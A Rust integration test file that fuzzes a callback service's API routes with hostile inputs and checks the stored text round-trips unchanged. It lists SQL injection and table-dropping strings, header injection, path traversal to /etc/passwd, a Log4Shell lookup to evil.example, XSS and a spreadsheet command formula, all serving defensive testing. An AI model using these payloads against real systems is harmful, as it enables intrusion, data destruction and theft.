//! Every parameter of every route, filled with what breaks out of SQL, of headers, of lines and of text.

use futures_util::StreamExt as _;
use futures_util::stream;
use reqwest::Method;
use serde_json::{Value, json};

use crate::support::app::TestApp;
use crate::support::site::llm;

/// As they stand in a query string or a path.
const HOSTILE: [&str; 12] = [
    "%27%20or%20%271%27%3D%271",
    "1%3B%20drop%20table%20profiles%20--",
    "%22%5D%7D%29%3B%20select%20pg_sleep%285%29--",
    "x%0d%0aX-Injected:%201%0d%0a%0d%0a",
    "%00",
    "%ff%fe%c0%ae",
    "%25%5F%5C%25",
    "%F0%9F%98%80%E2%80%AE%1B%5B31m",
    "-9223372036854775809",
    "99999999999999999999999999",
    "..%2f..%2fetc%2fpasswd",
    "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%7D",
];

/// Requests under way at the same time.
const AT_ONCE: usize = 16;

fn document() -> Value {
    serde_json::to_value(callbackd::api::document()).expect("it is JSON")
}

/// Each parameter of each route in turn; none is forgotten, since they are the document's.
fn targets() -> Vec<(Method, String)> {
    let mut targets = Vec::new();
    for (path, item) in document()["paths"].as_object().expect("there are paths") {
        for (method, described) in item.as_object().expect("a path has methods") {
            let method: Method = method.to_uppercase().parse().expect("a method");
            let of_path = |name: &str, value: &str| path.replace(&format!("{{{name}}}"), value);
            for parameter in described["parameters"].as_array().into_iter().flatten() {
                let name = parameter["name"].as_str().expect("a parameter has a name");
                for hostile in HOSTILE.into_iter().chain([long()]) {
                    let target = match parameter["in"].as_str() {
                        Some("query") => format!("{path}?{name}={hostile}"),
                        Some("path") => of_path(name, hostile),
                        _ => continue,
                    };
                    // Whatever is left of the path leads nowhere.
                    let target = target.replace("{id}", "0192f0c1-7a4e-7c3a-9b1d-000000000000");
                    targets.push((method.clone(), target.replace("{name}", "nobodys")));
                }
            }
        }
    }
    targets
}

fn long() -> &'static str {
    static LONG: std::sync::OnceLock<String> = std::sync::OnceLock::new();
    LONG.get_or_init(|| "x".repeat(20_000))
}

#[tokio::test]
async fn no_parameter_reaches_further_than_its_value() {
    let app = TestApp::with(&[("CALLBACKD_REQUESTS_PER_MINUTE", "1000000")]).await;
    app.store(llm("workflow.completed", "kept")).await;
    let token = app.admin().await;
    let targets = targets();
    assert!(targets.len() > 500, "{} targets", targets.len());
    let asked = stream::iter(targets)
        .map(async |(method, target)| {
            let request = app.request(method.clone(), &target).bearer_auth(&token);
            let request = if method == Method::GET { request } else { request.json(&json!({})) };
            // A stream would never end.
            let request = request.header("last-event-id", "hostile\u{202e}' or 1=1");
            let response = request.send().await.expect("the server answers");
            let status = response.status().as_u16();
            let injected = response.headers().contains_key("x-injected");
            let is_fine = matches!(status, 200 | 201 | 204 | 400..=499) && !injected;
            (!is_fine).then(|| format!("{method} {}: {status}", &target[..target.len().min(200)]))
        })
        .buffer_unordered(AT_ONCE)
        .filter_map(async |breach| breach);
    let breaches: Vec<String> = asked.collect().await;
    assert!(breaches.is_empty(), "{}", breaches.join("\n"));
    let people: i64 = app.client.query_one("select count(*) from profiles", &[]).await.unwrap().get(0);
    assert_eq!(people, 1, "nothing was made or removed");
}

/// What can be stored comes back as it was, whatever it looks like.
#[tokio::test]
async fn hostile_text_is_stored_and_found_as_it_is() {
    let app = TestApp::start().await;
    let token = app.admin().await;
    let texts = [
        "'; drop table llm_callbacks; --",
        "\" or \"\"=\"",
        "${jndi:ldap://evil.example}",
        "%_\\%",
        "<script>alert(1)</script>",
        "a\r\nX-Injected: 1",
        "=cmd|' /C calc'!A0",
        "\u{202e}\u{1b}[31m",
    ];
    for text in texts {
        let body = json!({"job_id": text, "event": text, "workflow_name": text}).to_string();
        let stored = app.store(body.as_str()).await;
        assert_eq!(stored["callbackId"], text);
        let asked = [("job", text), ("workflow", text), ("event", text)];
        let history = app.url("/api/admin/llm-callbacks/history");
        let history = url::Url::parse_with_params(&history, asked).expect("an address");
        let found = app.ask(app.http.get(history).bearer_auth(&token)).await;
        let ids: Vec<&Value> =
            found.json["callbacks"].as_array().unwrap().iter().map(|item| &item["callbackId"]).collect();
        assert_eq!(ids, [&json!(text)], "{found:?}");
        assert!(!found.headers.contains_key("x-injected"));
    }
}
